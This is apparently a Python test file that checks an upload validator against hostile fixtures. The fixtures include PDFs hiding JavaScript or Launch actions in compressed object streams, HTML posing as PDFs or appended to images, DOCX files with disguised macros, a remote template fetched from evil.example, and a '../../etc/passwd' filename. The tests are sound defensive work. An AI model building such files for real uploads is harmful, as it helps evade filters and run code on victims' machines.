"""Each upload that got past the checks (issue 20.2), as a fixture file, now refused or
made harmless: JavaScript hidden in a compressed object stream, a web page dressed as a PDF,
macros under another name, a remote template, markup appended to an image, and a download
named by its uploader rather than by what it is."""

import io
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from conftest import MINIMAL_PDF
from tashbeek.core.files import LIBRARY_TYPES, download_name, validate_document_upload
from tashbeek.core.forms import cleaned_image
from tashbeek.core.pdf import one_page_pdf

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf_with_object_stream(action: bytes) -> bytes:
    """A PDF 1.5 whose open action lives in a Flate-compressed object stream, found through
    a cross-reference stream: nothing of the action is visible in the raw bytes."""
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    inner = b"4 0 " + action
    packed = zlib.compress(inner)
    assert b"JavaScript" not in packed and b"Launch" not in packed
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(plain, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[5] = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n" % (
        len(b"4 0 "),
        len(packed),
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    offsets[6] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for number in (1, 2, 3):
        rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    rows.append(b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00")  # object 4: in stream 5, #0
    for number in (5, 6):
        rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n" % len(table)
    out += b"stream\n" + table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def docx(*, types: str = "", rels: dict[str, str] | None = None, parts=None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{CT}"><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{WORD}"/>{types}</Types>',
        )
        archive.writestr("word/document.xml", "<document/>")
        for name, relations in (rels or {}).items():
            archive.writestr(name, f'<Relationships xmlns="{REL}">{relations}</Relationships>')
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def check(name: str, content: bytes) -> str:
    upload = SimpleUploadedFile(name, content)
    return validate_document_upload(upload, allowed=LIBRARY_TYPES, limit=10 * 1024 * 1024)


def test_the_object_stream_fixture_is_a_pdf_that_pypdf_reads():
    from pypdf import PdfReader

    content = pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    reader = PdfReader(io.BytesIO(content))
    assert reader.trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /Type /Filespec /F (x.exe) /EF << /F 3 0 R >> >>",
    ],
    ids=["javascript", "launch", "embedded-file"],
)
def test_active_content_in_a_compressed_object_stream_is_refused(action):
    with pytest.raises(ValidationError) as refused:
        check("report.pdf", pdf_with_object_stream(action))
    assert refused.value.code == "active_content"


def test_a_plain_pdf_with_an_object_stream_is_accepted():
    assert check("report.pdf", pdf_with_object_stream(b"<< /S /URI /URI (https://x.org) >>"))


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\n" + HTML + b"\n%%EOF\n",
        MINIMAL_PDF.replace(b"%%EOF", b"%" + HTML + b"\n%%EOF"),
        b"%PDF-1.7\nnothing here at all\n%%EOF\n",
    ],
    ids=["page-dressed-as-pdf", "page-in-a-comment", "no-objects"],
)
def test_a_web_page_or_an_empty_shell_is_not_a_pdf(content):
    with pytest.raises(ValidationError) as refused:
        check("minutes.pdf", content)
    assert refused.value.code in ("polyglot", "damaged")


@pytest.mark.parametrize(
    "content",
    [
        docx(
            types='<Override PartName="/word/extra.bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>',
            parts={"word/extra.bin": b"\x00" * 64},
        ),
        docx(
            rels={
                "word/_rels/document.xml.rels": '<Relationship Id="r1" Type="http://schemas'
                '.microsoft.com/office/2006/relationships/vbaProject" Target="extra.bin"/>'
            },
            parts={"word/extra.bin": b"\x00" * 64},
        ),
        docx(
            rels={
                "word/_rels/settings.xml.rels": f'<Relationship Id="r1" Type="{OFFICE_REL}/'
                'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
            }
        ),
        docx(
            rels={
                "word/_rels/document.xml.rels": f'<Relationship Id="r2" Type="{OFFICE_REL}/'
                'oleObject" Target="file://server/share/x.bin" TargetMode="External"/>'
            }
        ),
        docx(
            types='<Default Extension="bin" ContentType="application/vnd.ms-word.'
            'document.macroEnabled.main+xml"/>'
        ),
    ],
    ids=["macro-renamed", "macro-relationship", "remote-template", "linked-ole", "docm-type"],
)
def test_macros_under_any_name_and_remote_content_are_refused(content):
    with pytest.raises(ValidationError) as refused:
        check("report.docx", content)
    assert refused.value.code == "active_content"


def test_a_document_with_a_hyperlink_is_accepted():
    content = docx(
        rels={
            "word/_rels/document.xml.rels": f'<Relationship Id="r1" Type="{OFFICE_REL}/'
            'hyperlink" Target="https://www.example.org/" TargetMode="External"/>'
        }
    )
    assert check("links.docx", content).endswith("wordprocessingml.document")


def _image(image_format: str, extra: bytes = b"", **save) -> bytes:
    buffer = io.BytesIO()
    mode = "P" if image_format == "GIF" else "RGB"
    Image.new(mode, (6, 6)).save(buffer, image_format, **save)
    return buffer.getvalue() + extra


@pytest.mark.parametrize("image_format", ["PNG", "GIF", "JPEG"])
def test_a_logo_is_stored_as_its_pixels_only(image_format):
    exif = Image.Exif()
    exif[0x010E] = "secret description"  # ImageDescription
    save = {"exif": exif.tobytes()} if image_format == "JPEG" else {}
    upload = SimpleUploadedFile("logo.pdf", _image(image_format, HTML, **save))
    cleaned = cleaned_image(upload)
    data = cleaned.read()
    assert b"<html" not in data and b"secret" not in data
    assert cleaned.name.endswith(".jpg" if image_format == "JPEG" else ".png")
    assert "logo" not in cleaned.name
    with Image.open(io.BytesIO(data)) as image:
        assert image.format in ("PNG", "JPEG") and image.size == (6, 6)


@pytest.mark.parametrize(
    ("given", "content_type", "downloaded"),
    [
        ("minutes.html", "application/pdf", "minutes.pdf"),
        ("x.pdf", "image/png", "x.png"),
        ("تقرير.docx", "application/pdf", "تقرير.pdf"),
        ("../../etc/passwd", "image/jpeg", "passwd.jpg"),
        ("", "application/pdf", "document.pdf"),
        ("no-extension", "application/pdf", "no-extension.pdf"),
    ],
)
def test_downloads_carry_the_extension_of_what_the_file_is(given, content_type, downloaded):
    assert download_name(given, content_type) == downloaded


@pytest.mark.django_db
def test_an_experience_file_is_named_and_served_as_what_it_is(
    client, draft_experience, focal_aourir
):
    from tashbeek.experiences import services

    png = SimpleUploadedFile("x.pdf", _image("PNG"))
    attached = services.file_add(by=focal_aourir, experience=draft_experience, upload=png)
    assert (attached.content_type, attached.filename) == ("image/png", "x.png")
    pdf = SimpleUploadedFile("minutes.html", one_page_pdf("Minutes"))
    attached = services.file_add(by=focal_aourir, experience=draft_experience, upload=pdf)
    client.force_login(focal_aourir)
    response = client.get(f"/experiences/{draft_experience.pk}/files/{attached.pk}/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert 'filename="minutes.pdf"' in response["Content-Disposition"]


def test_a_photo_keeps_its_orientation_when_its_exif_is_dropped():
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    buffer = io.BytesIO()
    Image.new("RGB", (40, 10), "white").save(buffer, "JPEG", exif=exif.tobytes())
    cleaned = cleaned_image(SimpleUploadedFile("portrait.jpg", buffer.getvalue()))
    with Image.open(io.BytesIO(cleaned.read())) as image:
        assert image.size == (10, 40)  # upright, as the phone showed it
        assert not image.getexif()
